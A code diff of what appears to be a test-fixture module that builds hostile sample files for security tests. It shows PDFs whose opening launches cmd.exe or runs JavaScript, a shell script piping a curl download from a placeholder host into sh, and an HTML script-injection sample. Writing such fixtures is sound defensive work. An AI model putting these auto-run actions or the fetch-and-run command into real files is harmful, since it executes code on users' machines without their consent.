@@ -41,14 +41,21 @@ export async function scriptedPdf() {
   return Buffer.from(await document.save());
 }
 
-/** A PDF whose opening launches a program. */
-export async function launchingPdf() {
+/** A PDF that runs `action` (an action dictionary's entries) when it is opened: its /OpenAction. */
+async function pdfOpening(action: Record<string, string | PDFString>) {
   const document = await PDFDocument.create();
   document.addPage();
-  const action = document.context.obj({ Type: 'Action', S: 'Launch', F: PDFString.of('cmd.exe') });
-  document.catalog.set(PDFName.of('OpenAction'), document.context.register(action));
+  const dictionary = document.context.obj({ Type: 'Action', ...action });
+  document.catalog.set(PDFName.of('OpenAction'), document.context.register(dictionary));
   return Buffer.from(await document.save());
 }
+
+/** A PDF whose opening launches a program. */
+export const launchingPdf = () => pdfOpening({ S: 'Launch', F: PDFString.of('cmd.exe') });
+
+/** A PDF whose opening runs JavaScript: an /OpenAction of /S /JavaScript, nothing in its names tree. */
+export const scriptOnOpenPdf = () =>
+  pdfOpening({ S: 'JavaScript', JS: PDFString.of('app.launchURL("https://example.invalid")') });
 
 export const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
 export const HTML = Buffer.from('<!doctype html><html><body><script>alert(1)</script></body></html>\n');
